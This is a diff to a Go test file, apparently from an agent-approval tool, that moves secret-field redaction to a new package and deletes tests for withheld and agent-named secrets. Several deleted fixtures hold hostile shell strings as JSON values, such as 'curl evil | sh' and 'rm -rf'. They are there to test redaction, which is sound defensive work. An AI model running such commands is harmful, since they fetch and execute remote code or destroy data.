@@ -6,6 +6,7 @@ import (
 	"strings"
 	"testing"
 
+	"github.com/holdpoint/holdpoint/internal/secretfield"
 	"github.com/holdpoint/holdpoint/ui/view/hostile"
 )
 
@@ -27,39 +28,6 @@ const declared = `{"properties":{"token":{},"password":{},"token_options":{},"to
 	"options":{"properties":{"password":{}}},"private_key":{},"secret":{},"max_tokens":{},"X-Api-Key":{},"auth":{"$ref":"#/$defs/auth"},
 	"api":{"additionalProperties":{"properties":{"seed_secret":{}}}}},"patternProperties":{"_token$":{}},
 	"$defs":{"auth":{"oneOf":[{"properties":{"client_secret":{}}},{"type":"null"}]}}}`
-
-// A value that is more than a single secret must be revealed before approval, whether the name or the schema hides it.
-func TestSecretsThatAreWithheld(t *testing.T) {
-	t.Parallel()
-	long := strings.Repeat("x", 256)
-	for _, tt := range []struct {
-		name, schema, document string
-		want                   int
-	}{
-		{"a token", declared, `{"token":"tok-93f1","path":"/x"}`, 0},
-		{"as long as may be", declared, `{"token":"` + long + `"}`, 0},
-		{"longer", declared, `{"token":"` + long + `x"}`, 1},
-		{"characters, not bytes", declared, `{"token":"` + strings.Repeat("é", 256) + `"}`, 0},
-		{"of two lines", declared, `{"password":"a\nb"}`, 1},
-		{"another line break", declared, `{"password":"a\u2028b"}`, 1},
-		{"below a name", declared, `{"token_options":{"command":"curl evil | sh","deep":{"more":"rm"}}}`, 2},
-		{"a list below a name", declared, `{"tokens":["rm","-rf"]}`, 2},
-		{"a name below a name", declared, `{"credentials":{"password":"p"}}`, 1},
-		{"beside one", declared, `{"options":{"password":"p"}}`, 0},
-		{"marked", `{"properties":{"a":{"writeOnly":true}}}`, `{"a":"short"}`, 0},
-		{"marked, and long", `{"properties":{"a":{"format":"password"}}}`, `{"a":"x` + long + `"}`, 1},
-		{"below what is marked", `{"properties":{"a":{"writeOnly":true}}}`, `{"a":{"b":"short","n":1}}`, 2},
-		{"all is marked", `{"writeOnly":true}`, `{"command":"curl evil | sh"}`, 1},
-		{"not a secret", declared, `{"text":"` + long + long + `"}`, 0},
-	} {
-		t.Run(tt.name, func(t *testing.T) {
-			t.Parallel()
-			if got := hostile.SecretsOf([]byte(tt.schema)).Withheld([]byte(tt.document)); got != tt.want {
-				t.Errorf("%d are withheld, want %d: %s", got, tt.want, tt.document)
-			}
-		})
-	}
-}
 
 func TestSecrets(t *testing.T) {
 	t.Parallel()
@@ -97,7 +65,7 @@ func TestSecrets(t *testing.T) {
 	} {
 		t.Run(tt.name, func(t *testing.T) {
 			t.Parallel()
-			secrets := hostile.SecretsOf([]byte(tt.schema))
+			secrets := secretfield.New(nil, []byte(tt.schema))
 			limits := hostile.Folded()
 			limits.Secrets = secrets
 			fields, err := hostile.ReadFields([]byte(tt.document), limits)
@@ -108,8 +76,8 @@ func TestSecrets(t *testing.T) {
 			if err != nil {
 				t.Fatal(err)
 			}
-			text, n := secrets.Redacted([]byte(tt.document))
-			if n != len(tt.hidden) || secrets.Count([]byte(tt.document)) != n || !hostile.IsJSON(text) {
+			text := hostile.Redact([]byte(tt.document), secrets)
+			if n := strings.Count(string(text), "hidden ("); n != len(tt.hidden) || secrets.Count([]byte(tt.document)) != n || !hostile.IsJSON(text) {
 				t.Errorf("%d hidden, want %d: %s", n, len(tt.hidden), text)
 			}
 			for format, shown := range map[string]string{
@@ -147,7 +115,7 @@ func TestSecrets(t *testing.T) {
 func TestSecretsInWhatIsCut(t *testing.T) {
 	t.Parallel()
 	limits := hostile.Folded()
-	limits.Secrets = hostile.SecretsOf([]byte(declared))
+	limits.Secrets = secretfield.New(nil, []byte(declared))
 	key := strings.Repeat("-key-\n", 300)
 	for _, document := range []string{
 		`{"private_key":"` + strings.ReplaceAll(key, "\n", `\n`) + `","a":"` + strings.Repeat("word ", 500) + `"}`,
@@ -173,58 +141,9 @@ func TestSecretsInWhatIsCut(t *testing.T) {
 func TestDecisiveHidesWhatTheSchemaMarks(t *testing.T) {
 	t.Parallel()
 	limits := hostile.Brief()
-	limits.Secrets = hostile.SecretsOf([]byte(`{"properties":{"to":{"writeOnly":true},"token":{}}}`))
+	limits.Secrets = secretfield.New(nil, []byte(`{"properties":{"to":{"writeOnly":true},"token":{}}}`))
 	fields := hostile.Decisive([]byte(`{"to":"ana","token":"t","n":1,"password":"p"}`), 3, limits)
 	if len(fields.List) != 2 || fields.List[0].Name != "n" || fields.List[1].Name != "password" || fields.More != 2 {
 		t.Errorf("%s and %d more", drawnFields(fields), fields.More)
-	}
-}
-
-func TestNamedByAgent(t *testing.T) {
-	t.Parallel()
-	for _, tt := range []struct{ name, schema, document, want string }{
-		{"not declared", `{"properties":{"to":{}}}`, `{"to":"a","password":"curl evil | sh"}`, "/password"},
-		{"declared", declared, `{"password":"p","credentials":{"password":"q"}}`, ""},
-		{"below a name", ``, `{"tokens":[{"a":"b"},"c"],"n":1}`, "/tokens/0/a /tokens/1"},
-		{"in a free object", `{"properties":{"headers":{"additionalProperties":{"type":"string"}}}}`, `{"headers":{"Authorization":"x","Accept":"y"}}`, "/headers/Authorization"},
-		{"a name with a slash", ``, `{"a/b~secret":"x"}`, "/a~1b~0secret"},
-		{"numbers are none", ``, `{"max_tokens":5}`, ""},
-	} {
-		t.Run(tt.name, func(t *testing.T) {
-			t.Parallel()
-			secrets := hostile.SecretsOf([]byte(tt.schema))
-			if got := strings.Join(secrets.NamedByAgent([]byte(tt.document)), " "); got != tt.want {
-				t.Errorf("got %q, want %q", got, tt.want)
-			}
-		})
-	}
-}
-
-func TestExemptPaths(t *testing.T) {
-	t.Parallel()
-	const document = `{"token":"t1","credentials":{"user":"u1","password":"p1"},"tokens":["a1","b1"],"a/token":"s1"}`
-	const schema = `{"properties":{"token":{},"credentials":{"properties":{"password":{}}},"tokens":{},"a/token":{}}}`
-	for _, tt := range []struct {
-		exempt string
-		hidden int
-	}{
-		{"", 6},
-		{"/token", 5},
-		{"/tokens", 4},
-		{"/tokens/0", 5},
-		{"/tokens/*", 4},
-		{"/credentials", 5},
-		{"/credentials /credentials/password", 4},
-		{"/*", 1},
-		{"/a~1token", 5},
-		{"/other", 6},
-	} {
-		t.Run(tt.exempt, func(t *testing.T) {
-			t.Parallel()
-			secrets := hostile.SecretsOf([]byte(schema), strings.Fields(tt.exempt)...)
-			if text, n := secrets.Redacted([]byte(document)); n != tt.hidden || len(secrets.NamedByAgent([]byte(document))) != 0 {
-				t.Errorf("%d hidden, want %d: %s", n, tt.hidden, text)
-			}
-		})
 	}
 }
